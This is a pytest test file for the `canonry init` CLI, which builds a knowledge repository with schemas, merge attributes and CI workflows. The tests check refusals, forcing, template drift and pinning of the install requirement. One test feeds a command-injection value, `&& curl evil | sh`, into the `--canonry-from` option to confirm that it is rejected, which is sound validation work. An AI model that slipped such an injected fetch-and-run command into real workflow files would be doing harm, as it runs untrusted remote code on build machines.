"""`canonry init`: a new knowledge repository, through the CLI the way a user types it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from canonry.store.commits import parse_trailers
from canonry.store.init import MERGE_DRIVER_CONFIG, template_files
from conftest import AUTHOR, ROOT, copy_reference, git, run
from helpers import mapping_entry, write_entry, write_text

TEMPLATES = ROOT / "tooling" / "canonry" / "templates" / "repo"
LIBRARIES = {
    "assumptions",
    "calibration-notes",
    "engagement-memory",
    "mapping",
    "nationality-classification",
    "occupation-bridge",
    "overrides",
    "scenario-patterns",
}
INSTALL_COMMENT = (
    "      # Canonry is not on the Python package index yet: canonry init wrote the git URL\n"
    "      # and commit of the Canonry that ran it. To upgrade, change this line in both workflows.\n"
)
RESYNC = (
    "rm tooling/canonry/templates/repo/schemas/* && "
    "cp schemas/libraries.yaml schemas/allowed_signers schemas/*.schema.json "
    "tooling/canonry/templates/repo/schemas/ && "
    "for f in gates release; do sed -e 's/^      - name: Install Canonry$/"
    + INSTALL_COMMENT.replace("\n", "\\n")
    + "&/' -e 's/run: pip install \\.$/run: pip install \"{{canonry_requirement}}\"/' "
    ".github/workflows/$f.yml > tooling/canonry/templates/repo/dot_github/workflows/$f.yml; done"
)


def tracked(repo: Path) -> set[str]:
    return set(git(repo, "ls-files").splitlines())


def assert_clean(repo: Path) -> None:
    """The work tree and the index match HEAD exactly."""
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    assert git(repo, "diff", "--cached", "--name-only") == ""


# --- a new repository -----------------------------------------------------------


def test_init_creates_a_repository_that_validates(tmp_path: Path) -> None:
    target = tmp_path / "kb"
    result = run(["init", str(target)])
    assert result.exit_code == 0
    assert "created schemas/libraries.yaml" in result.stderr
    assert MERGE_DRIVER_CONFIG in result.stderr
    assert result.stdout == ""

    assert git(target, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert git(target, "rev-list", "--count", "HEAD") == "1"
    assert tracked(target) == set(template_files("kb"))
    assert {p.split("/")[1] for p in tracked(target) if p.startswith("schemas/")} == (
        {"libraries.yaml", "allowed_signers", "common.schema.json"}
        | {f"{name}.schema.json" for name in LIBRARIES}
    )
    assert_clean(target)
    git(target, "fsck", "--strict", "--no-progress")

    trailers = parse_trailers(git(target, "log", "-1", "--format=%B"))
    assert trailers["Canonry-Source"] == "init"
    assert trailers["Canonry-Actor"] == AUTHOR[1]
    assert trailers["Canonry-Source-Ref"].startswith("canonry ")
    assert git(target, "log", "-1", "--format=%ae") == AUTHOR[1]

    # knowledge/ holds no library folders yet (they hold only entries), just the holdout set
    assert sorted(p.name for p in (target / "knowledge").iterdir()) == ["holdout"]
    assert "# kb\n" in (target / "README.md").read_text()
    assert git(target, "check-attr", "merge", "--", "knowledge/mapping/x.yaml").endswith("merge: canonry")
    assert git(target, "check-attr", "eol", "--", "schemas/mapping.schema.json").endswith("eol: lf")

    validated = run(["validate", "--repo", str(target)])
    assert validated.exit_code == 0, validated.stdout
    assert "PASS" in validated.stdout
    listed = run(["libraries", "--repo", str(target), "--format", "json"])
    assert listed.exit_code == 0
    assert {row["library"] for row in json.loads(listed.stdout)["libraries"]} == LIBRARIES
    text = run(["libraries", "--repo", str(target)])
    assert len(text.stdout.strip().splitlines()) == 1 + len(LIBRARIES)


def test_the_new_schemas_really_check_entries(tmp_path: Path) -> None:
    target = tmp_path / "kb"
    assert run(["init", str(target)]).exit_code == 0
    write_entry(target, "mapping", mapping_entry("m1", "steel rebar", "C24"))
    assert run(["validate", "--repo", str(target)]).exit_code == 0
    write_entry(target, "mapping", mapping_entry("m2", "cement", "not-a-code"))
    failed = run(["validate", "--repo", str(target)])
    assert failed.exit_code == 1
    assert "m2.yaml" in failed.stdout


def test_init_defaults_to_the_current_folder_and_takes_by(tmp_path: Path) -> None:
    target = tmp_path / "here"
    target.mkdir()
    result = run(["init", "--by", "Founder@Example.org"], cwd=target)
    assert result.exit_code == 0
    assert (target / "schemas" / "libraries.yaml").is_file()
    assert (target / "README.md").read_text().startswith("# here\n")
    assert git(target, "log", "-1", "--format=%ae") == "Founder@Example.org"
    assert parse_trailers(git(target, "log", "-1", "--format=%B"))["Canonry-Actor"] == "Founder@Example.org"


def test_init_without_identity_says_so_and_the_empty_repository_is_reused(tmp_path: Path) -> None:
    # A process of its own: libgit2 reads HOME's config paths once, when it loads.
    home = tmp_path / "nobody"
    home.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        HOME=str(home),
        XDG_CONFIG_HOME=str(home),
        GIT_CONFIG_NOSYSTEM="1",
        GIT_CONFIG_GLOBAL=str(home / "none"),
        PYTHONPATH=str(ROOT / "tooling"),
    )
    target = tmp_path / "kb"
    cli = [sys.executable, "-c", "from canonry.cli.main import main; main()", "init", str(target)]
    proc = subprocess.run(cli, env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "no identity: pass --by EMAIL" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (target / "schemas").exists()

    proc = subprocess.run([*cli, "--by", "first@example.org"], env=env, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "existing git repository" in proc.stderr
    assert git(target, "log", "-1", "--format=%ae") == "first@example.org"


def test_init_inside_another_repository_makes_its_own(tmp_path: Path) -> None:
    ref_repo = copy_reference(tmp_path / "outer", with_knowledge=False)
    before = git(ref_repo, "rev-parse", "HEAD")
    target = ref_repo / "nested" / "kb"
    assert run(["init", str(target)]).exit_code == 0
    assert Path(git(target, "rev-parse", "--show-toplevel")).resolve() == target.resolve()
    assert git(ref_repo, "rev-parse", "HEAD") == before


# --- an existing repository -------------------------------------------------------


def test_init_reuses_an_empty_repository_on_another_default_branch(tmp_path: Path) -> None:
    target = tmp_path / "empty"
    git(tmp_path, "init", "-q", "-b", "master", str(target))
    write_text(target, "notes.txt", "the user's own untracked file\n")
    result = run(["init", str(target)])
    assert result.exit_code == 0
    assert "existing git repository" in result.stderr
    assert git(target, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert git(target, "rev-list", "--count", "HEAD") == "1"
    assert git(target, "status", "--porcelain") == "?? notes.txt"
    assert run(["validate", "--repo", str(target)]).exit_code == 0


def test_init_on_a_forge_created_repository_keeps_readme_and_merges_gitattributes(tmp_path: Path) -> None:
    target = tmp_path / "forge"
    git(tmp_path, "init", "-q", "-b", "main", str(target))
    write_text(target, "README.md", "# Our knowledge\n")
    write_text(target, ".gitattributes", "*.png binary\n")
    git(target, "add", "-A")
    git(target, "commit", "-q", "-m", "Initial commit")
    first = git(target, "rev-parse", "HEAD")

    result = run(["init", str(target)])
    assert result.exit_code == 0
    assert "kept    README.md" in result.stderr
    assert git(target, "rev-parse", "HEAD^") == first
    assert (target / "README.md").read_text() == "# Our knowledge\n"
    attributes = (target / ".gitattributes").read_text()
    assert attributes.startswith("*.png binary\n")
    assert "knowledge/**/*.yaml merge=canonry text eol=lf" in attributes
    assert git(target, "check-attr", "merge", "--", "knowledge/overrides/a.yaml").endswith("merge: canonry")
    assert_clean(target)


def test_init_refuses_existing_knowledge_content(tmp_path: Path) -> None:
    target = tmp_path / "kb"
    assert run(["init", str(target)]).exit_code == 0
    head = git(target, "rev-parse", "HEAD")
    again = run(["init", str(target)])
    assert again.exit_code == 2
    assert "already has knowledge repository content (schemas/ holds 11 files" in again.stderr
    assert "will not overwrite" in again.stderr
    assert git(target, "rev-parse", "HEAD") == head


def test_init_refuses_untracked_entries_and_creates_nothing(tmp_path: Path) -> None:
    target = tmp_path / "plain"
    write_entry(target, "mapping", mapping_entry("m1", "steel rebar", "C24"))
    result = run(["init", str(target)])
    assert result.exit_code == 2
    assert "knowledge/ holds 1 file" in result.stderr
    assert not (target / ".git").exists()
    assert not (target / "schemas").exists()


def test_init_refuses_committed_schemas(tmp_path: Path) -> None:
    ref_repo = copy_reference(tmp_path / "kb", with_knowledge=False)
    (ref_repo / "schemas").rename(ref_repo / "moved")  # gone from disk, still in HEAD
    result = run(["init", str(ref_repo)])
    assert result.exit_code == 2
    assert "schemas/ holds" in result.stderr


def test_init_refuses_a_clashing_workflow_unless_forced(tmp_path: Path) -> None:
    target = tmp_path / "kb"
    write_text(target, ".github/workflows/gates.yml", "name: ours\n")
    refused = run(["init", str(target)])
    assert refused.exit_code == 2
    assert ".github/workflows/gates.yml" in refused.stderr
    assert not (target / ".git").exists()

    forced = run(["init", "--force", str(target)])
    assert forced.exit_code == 0
    assert (target / ".github/workflows/gates.yml").read_bytes() == template_files("kb")[
        ".github/workflows/gates.yml"
    ]
    assert_clean(target)


def test_force_replaces_schemas_but_never_touches_knowledge(tmp_path: Path) -> None:
    target = copy_reference(tmp_path / "kb", with_knowledge=False)
    write_text(target, "schemas/libraries.yaml", "format: canonry.libraries/v1\nlibraries: {}\n")
    write_entry(target, "mapping", mapping_entry("m1", "steel rebar", "C24"))
    write_text(target, "knowledge/holdout/mapping.yaml", "format: canonry.holdout/v1\nlibrary: mapping\n")
    git(target, "add", "-A")
    git(target, "commit", "-q", "-m", "our own")
    holdout = (target / "knowledge/holdout/mapping.yaml").read_bytes()

    result = run(["init", "--force", str(target)])
    assert result.exit_code == 0
    assert "kept    knowledge/holdout/mapping.yaml" in result.stderr
    assert (target / "knowledge/holdout/mapping.yaml").read_bytes() == holdout
    assert (target / "schemas/libraries.yaml").read_bytes() == (
        TEMPLATES / "schemas/libraries.yaml"
    ).read_bytes()
    assert (target / "knowledge/mapping/m1.yaml").is_file()
    assert_clean(target)
    assert run(["validate", "--repo", str(target)]).exit_code == 0


# --- paths init cannot use ----------------------------------------------------------


def test_init_refuses_a_bare_repository(tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    result = run(["init", str(bare)])
    assert result.exit_code == 2
    assert "is a bare repository" in result.stderr
    assert not (bare / ".git").exists()
    assert not (bare / "schemas").exists()


def test_init_refuses_a_file(tmp_path: Path) -> None:
    path = write_text(tmp_path, "file.txt", "not a folder\n")
    result = run(["init", str(path)])
    assert result.exit_code == 2
    assert "is a file" in result.stderr


def test_init_refuses_a_repository_on_another_branch(tmp_path: Path) -> None:
    target = tmp_path / "other"
    git(tmp_path, "init", "-q", "-b", "trunk", str(target))
    git(target, "commit", "-q", "--allow-empty", "-m", "start")
    result = run(["init", str(target)])
    assert result.exit_code == 2
    assert "is on branch trunk" in result.stderr
    assert "Traceback" not in result.stderr


def test_init_help_has_an_example() -> None:
    result = run(["init", "--help"])
    assert result.exit_code == 0
    assert "Example:" in result.stdout
    assert "canonry init knowledge-repo" in result.stdout


# --- the shipped templates cannot drift -----------------------------------------------


def test_shipped_schemas_equal_this_repositorys_schemas() -> None:
    ours = {p.name: p.read_bytes() for p in (ROOT / "schemas").iterdir() if p.is_file()}
    shipped = {p.name: p.read_bytes() for p in (TEMPLATES / "schemas").iterdir() if p.is_file()}
    drifted = sorted(name for name in ours.keys() | shipped.keys() if ours.get(name) != shipped.get(name))
    assert not drifted, (
        f"templates drifted from schemas/: {drifted}; resync from the checkout's root: {RESYNC}"
    )


@pytest.mark.parametrize("name", ["gates.yml", "release.yml"])
def test_shipped_workflows_equal_this_repositorys_but_for_the_install(name: str) -> None:
    ours = (ROOT / ".github" / "workflows" / name).read_text()
    shipped = (TEMPLATES / "dot_github" / "workflows" / name).read_text()
    step = "      - name: Install Canonry\n        run: pip install .\n"
    assert step in ours
    expected = ours.replace(
        step, INSTALL_COMMENT + step.replace("pip install .", 'pip install "{{canonry_requirement}}"')
    )
    assert shipped == expected, f"{name} drifted; resync from the checkout's root: {RESYNC}"


def test_the_resync_command_reproduces_the_shipped_workflows(tmp_path: Path) -> None:
    # the command the drift messages give really does the job
    loop = RESYNC.split("for f in gates release; do ", 1)[1].removesuffix("; done")
    for name in ("gates", "release"):
        command = loop.replace("$f", name).replace("tooling/canonry/templates/repo", str(tmp_path))
        (tmp_path / "dot_github" / "workflows").mkdir(parents=True, exist_ok=True)
        subprocess.run(["bash", "-c", command], cwd=ROOT, check=True)
        shipped = (TEMPLATES / "dot_github" / "workflows" / f"{name}.yml").read_bytes()
        assert (tmp_path / "dot_github" / "workflows" / f"{name}.yml").read_bytes() == shipped


# --- what the workflows install ------------------------------------------------------


def install_step(repo: Path) -> str:
    text = (repo / ".github/workflows/gates.yml").read_text()
    return text.split("- name: Install Canonry\n", 1)[1].split("\n\n", 1)[0]


def test_init_pins_the_canonry_it_is_given(tmp_path: Path) -> None:
    pinned = "canonry @ git+https://git.example.org/tools/canonry@" + "a" * 40
    result = run(["init", str(tmp_path / "kb"), "--canonry-from", pinned])
    assert result.exit_code == 0, result.stderr
    assert f'The workflows install Canonry with: pip install "{pinned}"' in result.stderr
    for name in ("gates.yml", "release.yml"):
        assert f'run: pip install "{pinned}"\n' in (tmp_path / "kb/.github/workflows" / name).read_text()
    assert f'pip install "{pinned}"' in (tmp_path / "kb/README.md").read_text()
    # a bare URL becomes a requirement; quotes or shell characters are refused
    assert run(["init", str(tmp_path / "kb2"), "--canonry-from", "git+https://h/canonry@v1"]).exit_code == 0
    assert 'pip install "canonry @ git+https://h/canonry@v1"' in install_step(tmp_path / "kb2")
    bad = run(["init", str(tmp_path / "kb3"), "--canonry-from", 'canonry" && curl evil | sh "'])
    assert bad.exit_code == 2
    assert "give a pip requirement" in bad.stderr
    assert not (tmp_path / "kb3").exists()


def test_init_says_when_it_cannot_tell_where_canonry_came_from(tmp_path: Path) -> None:
    from canonry.store.init import init_knowledge_repo
    from canonry.store.install_source import CanonrySource

    unknown = CanonrySource(None, "Canonry was installed from a file (file:///tmp/canonry.whl)")
    result = init_knowledge_repo(tmp_path / "kb", source=unknown)
    step = install_step(result.path)
    assert "exit 1" in step and "::error::Canonry is not on the Python package index yet" in step
    assert "{{canonry" not in (result.path / ".github/workflows/release.yml").read_text()
    assert "{{canonry" not in (result.path / "README.md").read_text()


def test_where_canonry_came_from() -> None:
    from canonry.store.install_source import source_from_direct_url

    commit = "0123456789abcdef0123456789abcdef01234567"
    vcs = (
        '{"url": "https://git.example.org/tools/canonry.git", "vcs_info": {"vcs": "git", "commit_id": "%s"}}'
    )
    assert source_from_direct_url(vcs % commit).requirement == (
        f"canonry @ git+https://git.example.org/tools/canonry.git@{commit}"
    )
    assert source_from_direct_url(None).requirement == "canonry==0.1.0"  # from an index
    local_vcs = '{"url": "file:///srv/canonry", "vcs_info": {"vcs": "git", "commit_id": "%s"}}'
    assert source_from_direct_url(local_vcs % commit).requirement is None
    assert source_from_direct_url('{"url": "file:///tmp/c.whl", "archive_info": {}}').requirement is None
    assert source_from_direct_url("not json").requirement is None


def test_a_clone_with_a_pushed_head_gives_its_origin_and_commit(tmp_path: Path) -> None:
    from canonry.store.install_source import source_from_direct_url

    clone = copy_reference(tmp_path / "canonry", with_knowledge=False)
    head = git(clone, "rev-parse", "HEAD")
    raw = json.dumps({"url": f"file://{clone}", "dir_info": {"editable": True}})
    assert "clone without an origin" in source_from_direct_url(raw).how
    git(clone, "remote", "add", "origin", "git@git.example.org:tools/canonry.git")
    assert source_from_direct_url(raw).requirement is None  # HEAD is on no branch of origin
    git(clone, "update-ref", "refs/remotes/origin/main", head)
    assert source_from_direct_url(raw).requirement == (
        f"canonry @ git+ssh://git@git.example.org/tools/canonry.git@{head}"
    )
    git(clone, "remote", "set-url", "origin", str(tmp_path / "elsewhere"))
    assert "not a network address" in source_from_direct_url(raw).how


def test_template_names_survive_packaging() -> None:
    """setuptools' package-data globs skip dot files: dotted names are spelt dot_."""
    names = [p.name for p in TEMPLATES.rglob("*")]
    assert names
    assert not [n for n in names if n.startswith(".")]
    assert ".gitattributes" in template_files("x")
    assert ".github/workflows/gates.yml" in template_files("x")


def test_this_repositorys_gitattributes() -> None:
    def attr(name: str, path: str) -> str:
        return git(ROOT, "check-attr", name, "--", path).rsplit(": ", 1)[1]

    assert attr("merge", "knowledge/mapping/x.yaml") == "canonry"
    assert attr("eol", "knowledge/mapping/x.yaml") == "lf"
    assert attr("eol", "schemas/mapping.schema.json") == "lf"
    # golden inputs keep their bytes: no end-of-line conversion
    assert attr("text", "tests/cases/invalid/carriage-return/input.yaml") == "unset"


def test_forcing_again_restores_files_without_an_empty_commit(tmp_path: Path) -> None:
    target = tmp_path / "kb"
    assert run(["init", str(target)]).exit_code == 0
    head = git(target, "rev-parse", "HEAD")
    (target / ".github/workflows/release.yml").write_text("name: edited\n")
    again = run(["init", "--force", str(target)])
    assert again.exit_code == 0
    assert "nothing to commit" in again.stderr
    assert git(target, "rev-parse", "HEAD") == head
    assert_clean(target)
